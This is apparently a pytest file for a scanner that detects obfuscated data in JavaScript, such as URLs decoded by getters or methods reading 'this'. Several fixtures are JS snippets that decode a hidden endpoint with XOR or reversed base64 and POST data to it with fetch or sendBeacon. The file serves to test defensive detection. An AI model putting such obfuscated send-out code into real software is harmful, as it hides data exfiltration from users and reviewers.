"""Decoders written as getters or argument-less methods of a constant object, reading the object's
own data through ``this``: the object is defined in the isolate and the member read there."""

from __future__ import annotations

from collections.abc import Callable

from agentxray.model import Finding, Notice

RunDetectors = Callable[..., tuple[list[Finding], list[Notice]]]


def _codes(text: str) -> list[int]:
    return [ord(c) ^ ((i * 5 + 3) & 0x7F) for i, c in enumerate(text)]


def test_decode_getter_with_position_dependent_xor(run_all: RunDetectors) -> None:
    # js-obfuscated-data: the URL is XOR-ed with a key that depends on the position, and only
    # a getter reading ``this._k`` turns it back.
    src = (
        "const cfg = {\n"
        f"  _k: {_codes('https://hooks.lanternbay.dev/v1/in')},\n"
        "  get target() {\n"  # line 3
        "    return this._k.map((c, i) => String.fromCharCode(c ^ ((i * 5 + 3) & 0x7f))).join('');\n"
        "  },\n"
        "};\n"
        "module.exports = (body) => fetch(cfg.target, { method: 'POST', body });\n"
    )
    findings, _ = run_all(src.encode())
    (finding,) = [f for f in findings if f.category == "obfuscated-data"]
    assert finding.rule == "js-obfuscated-data"
    assert finding.location.line == 3
    assert finding.decoded == ("https://hooks.lanternbay.dev/v1/in",)


def test_decode_method_of_a_constant_object(run_all: RunDetectors) -> None:
    # js-obfuscated-data: a method without parameters reversing and base64-decoding a field.
    src = (
        "const store = {\n"
        f"  blob: '{'aHR0cHM6Ly9tZXRyaWNzLmZlcm5zaWRlLmlvL2M='[::-1]}',\n"
        "  endpoint() { return atob(this.blob.split('').reverse().join('')); },\n"  # line 3
        "};\n"
        "export const send = (x) => navigator.sendBeacon(store.endpoint(), x);\n"
    )
    findings, _ = run_all(src.encode())
    (finding,) = [f for f in findings if f.category == "obfuscated-data"]
    assert finding.location.line == 3
    assert "https://metrics.fernside.io/c" in finding.decoded


def test_decode_shortcut_label_getter_is_silent(run_all: RunDetectors) -> None:
    # ok: a getter spelling a keyboard shortcut from key codes: nothing hidden.
    src = (
        "const shortcut = {\n"
        "  codes: [17, 75],\n"
        "  get label() { return this.codes.map((c) => c === 17 ? 'Ctrl' : String.fromCharCode(c)).join('+'); },\n"
        "};\n"
        "export default shortcut;\n"
    )
    findings, _ = run_all(src.encode())
    assert [f for f in findings if f.category == "obfuscated-data"] == []


def test_decode_getter_of_a_class_built_without_arguments(run_all: RunDetectors) -> None:
    # js-obfuscated-data: the constructor stores the codes on ``this``; a getter decodes them.
    src = (
        "class Sink {\n"
        f"  constructor() {{ this.k = {_codes('https://drop.ravenmere.net/v3/e')}; }}\n"
        "  get url() {\n"  # line 3
        "    return this.k.map((c, i) => String.fromCharCode(c ^ ((i * 5 + 3) & 0x7f))).join('');\n"
        "  }\n"
        "}\n"
        "module.exports = (b) => fetch(new Sink().url, { method: 'POST', body: b });\n"
    )
    findings, _ = run_all(src.encode())
    (finding,) = [f for f in findings if f.category == "obfuscated-data"]
    assert finding.location.line == 3
    assert finding.decoded == ("https://drop.ravenmere.net/v3/e",)


def test_decode_getter_over_constructor_arguments_is_silent(run_all: RunDetectors) -> None:
    # ok: the getter decodes what the caller passed to the constructor, not data of the file.
    src = (
        "class Token {\n"
        "  constructor(raw) { this.raw = raw; this.pad = 'ignored-constant-text'; }\n"
        "  get claims() { return JSON.parse(atob(this.raw.split('.')[1])); }\n"
        "}\n"
        "export const claimsOf = (t) => new Token(t).claims;\n"
    )
    findings, _ = run_all(src.encode())
    assert [f for f in findings if f.category == "obfuscated-data"] == []
